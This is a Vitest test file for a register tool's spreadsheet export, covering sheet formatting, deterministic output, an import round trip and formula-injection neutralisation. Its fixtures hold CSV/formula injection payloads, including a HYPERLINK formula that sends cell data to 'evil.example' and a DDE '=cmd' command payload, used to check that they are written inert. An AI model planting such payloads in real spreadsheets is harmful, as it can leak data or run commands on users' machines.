// sidedoor export: the sheets and their formatting, byte-identical output, formula injection written inert (read back
// with exceljs and csv-parse), and the round trip through import on the sample city (What it must show #4 and #5).

import { describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, readdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { runCli, SAMPLE_CITY, writeTree } from '../helpers/run-cli.js';
import { loadExcelJs } from '../../src/spreadsheet/read-xlsx.js';

const TODAY = '2026-06-01';
const temp = () => mkdtempSync(join(tmpdir(), 'sidedoor-export-'));

async function readWorkbook(path: string) {
  const ExcelJS = await loadExcelJs();
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(readFileSync(path) as never);
  return wb;
}

const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click me")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "'=already quoted"];

function hostileRegister(): string {
  const vendors = INJECTIONS.map((name, i) => `  - { id: v${i}, name: ${JSON.stringify(name)}, tier: low, owner: ${JSON.stringify(name)}, notes: ${JSON.stringify(name)} }`);
  return writeTree({
    'sidedoor.yaml': 'version: 1\norganization: "=cmd|\' /C calc\'!A0"\n',
    'register.yaml': `vendors:\n${vendors.join('\n')}\nzones:\n  - { id: lan, trust: 2 }\nsystems:\n  - { id: app, name: "=1+1", zone: lan, vendor: v0, tags: ["@tag", "-x"] }\n`,
  });
}

describe('sidedoor export', () => {
  it('writes the sheets with bold frozen headers, autofilters, widths and severity fills', async () => {
    const out = join(temp(), 'city.xlsx');
    const run = runCli(['export', '--register', SAMPLE_CITY, '--format', 'xlsx', '-o', out, '--today', TODAY, '--no-cache']);
    expect(run.code, run.stderr).toBe(0);
    const wb = await readWorkbook(out);
    const names = wb.worksheets.map((w) => w.name);
    expect(names.slice(0, 6)).toEqual(['Vendors', 'Systems', 'Links', 'Findings', 'Remediation', 'Accepted risks']);
    for (const ws of wb.worksheets) {
      expect(ws.getRow(1).getCell(1).font?.bold, ws.name).toBe(true);
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.autoFilter, ws.name).toBeDefined();
    }
    const vendors = wb.getWorksheet('Vendors')!;
    expect((vendors.getRow(1).values as unknown[]).slice(1, 10)).toEqual(['Id', 'Name', 'Tier', 'Owner', 'Contract end', 'Last assessment',
      'Last assessment result', 'Assessment overdue', 'Has security contact']);
    expect(vendors.getColumn(2).width).toBeGreaterThan(10);
    const findings = wb.getWorksheet('Findings')!;
    expect((findings.getRow(1).values as unknown[]).slice(1, 7)).toEqual(['Severity', 'Status', 'New', 'Title', 'Path', 'Location']);
    const critical = findings.getColumn(1).values.findIndex((v) => v === 'critical');
    expect(critical).toBeGreaterThan(1);
    expect(findings.getCell(critical, 1).fill).toMatchObject({ type: 'pattern', fgColor: { argb: 'FFC00000' } });
    expect(String(findings.getCell(critical, 6).value)).toMatch(/\.yaml:\d+$/);
    expect(wb.getWorksheet('Remediation')!.rowCount).toBeGreaterThan(1);
    expect(wb.getWorksheet('Accepted risks')!.rowCount).toBe(5);
  });

  it('is byte-identical for the same register and --today, whenever it runs', async () => {
    const dir = temp();
    const args = (out: string) => ['export', '--register', SAMPLE_CITY, '--format', 'xlsx', '-o', out, '--today', TODAY, '--no-cache'];
    expect(runCli(args(join(dir, 'a.xlsx'))).code).toBe(0);
    await new Promise((r) => setTimeout(r, 2100)); // past the zip format's two-second clock resolution
    expect(runCli(args(join(dir, 'b.xlsx'))).code).toBe(0);
    expect(readFileSync(join(dir, 'b.xlsx')).equals(readFileSync(join(dir, 'a.xlsx')))).toBe(true);
    const other = runCli(['export', '--register', SAMPLE_CITY, '--format', 'xlsx', '-o', join(dir, 'c.xlsx'), '--today', '2026-06-02', '--no-cache']);
    expect(other.code).toBe(0);
    expect(readFileSync(join(dir, 'c.xlsx')).equals(readFileSync(join(dir, 'a.xlsx')))).toBe(false);
    for (const csvDir of ['c1', 'c2']) {
      expect(runCli(['export', '--register', SAMPLE_CITY, '--format', 'csv', '-o', join(dir, csvDir), '--today', TODAY, '--no-cache']).code).toBe(0);
    }
    const files = readdirSync(join(dir, 'c1')).sort();
    expect(files).toEqual(readdirSync(join(dir, 'c2')).sort());
    for (const f of files) expect(readFileSync(join(dir, 'c2', f)).equals(readFileSync(join(dir, 'c1', f)))).toBe(true);
  });

  it('writes every injection prefix as inert text, in XLSX and in CSV, and the import gives the text back', async () => {
    const register = hostileRegister();
    const dir = temp();
    const xlsx = join(dir, 'hostile.xlsx');
    expect(runCli(['export', '--register', register, '--format', 'xlsx', '-o', xlsx, '--today', TODAY, '--no-cache']).code).toBe(0);
    expect(runCli(['export', '--register', register, '--format', 'csv', '-o', join(dir, 'csv'), '--today', TODAY, '--no-cache']).code).toBe(0);

    const wb = await readWorkbook(xlsx);
    const ExcelJS = await loadExcelJs();
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => {
        expect(cell.type, `${ws.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        if (typeof cell.value === 'string') expect(/^[=+\-@\t\r]/.test(cell.value), `${ws.name}!${cell.address} ${JSON.stringify(cell.value)}`).toBe(false);
      }));
    }
    // XML normalises a carriage return to a line feed, so that is what a workbook holds (and gives back).
    const asInXml = (n: string) => n.replace(/\r/g, '\n');
    const vendorNames = wb.getWorksheet('Vendors')!.getColumn(2).values.slice(2);
    expect(vendorNames.sort()).toEqual(INJECTIONS.map((n) => `'${asInXml(n)}`).sort());

    const records = parse(readFileSync(join(dir, 'csv', 'vendors.csv')), { bom: true, relax_column_count: true }) as string[][];
    const names = records.slice(1).map((r) => r[1]);
    expect(names.sort()).toEqual(INJECTIONS.map((n) => `'${n}`).sort());
    for (const file of readdirSync(join(dir, 'csv'))) {
      const rows = parse(readFileSync(join(dir, 'csv', file)), { bom: true, relax_column_count: true }) as string[][];
      for (const row of rows) for (const field of row) expect(/^[=+\-@\t\r]/.test(field), `${file}: ${JSON.stringify(field)}`).toBe(false);
    }

    for (const [input, names] of [[[xlsx], INJECTIONS.map(asInXml)], [readdirSync(join(dir, 'csv')).map((f) => join(dir, 'csv', f)), INJECTIONS]]) {
      const out = join(temp(), 'register');
      const imported = runCli(['import', ...input, '--out', out]);
      expect(imported.code, imported.stderr).toBe(0);
      const text = readFileSync(join(out, 'vendors.yaml'), 'utf8');
      for (const name of names) expect(text).toContain(`name: ${JSON.stringify(name)}`);
      expect(readFileSync(join(out, 'sidedoor.yaml'), 'utf8')).toContain('organization: "=cmd|\' /C calc\'!A0"');
    }
  });

  it('round trip on the sample city: export, import, and the scan finds the same findings', () => {
    const dir = temp();
    const scan = (register: string) => {
      const run = runCli(['scan', '--register', register, '--today', TODAY, '--format', 'json', '--no-cache']);
      expect([0, 1]).toContain(run.code);
      const result = JSON.parse(run.stdout);
      return {
        findings: result.findings.map((f: Record<string, unknown>) => [f.id, f.severity, f.status, f.title, f.message, f.path, f.impact_count]),
        remediations: result.remediations,
        summary: result.summary,
        counts: [result.register.zones, result.register.vendors, result.register.systems, result.register.links],
      };
    };
    const original = scan(SAMPLE_CITY);
    for (const format of ['xlsx', 'csv']) {
      const target = join(dir, format === 'xlsx' ? 'city.xlsx' : 'csv');
      expect(runCli(['export', '--register', SAMPLE_CITY, '--format', format, '-o', target, '--today', TODAY, '--no-cache']).code).toBe(0);
      const inputs = format === 'xlsx' ? [target] : readdirSync(target).map((f) => join(target, f));
      const out = join(dir, `register-${format}`);
      const imported = runCli(['import', ...inputs, '--out', out]);
      expect(imported.code, imported.stderr).toBe(0);
      expect(scan(out)).toEqual(original);
    }
  });
});
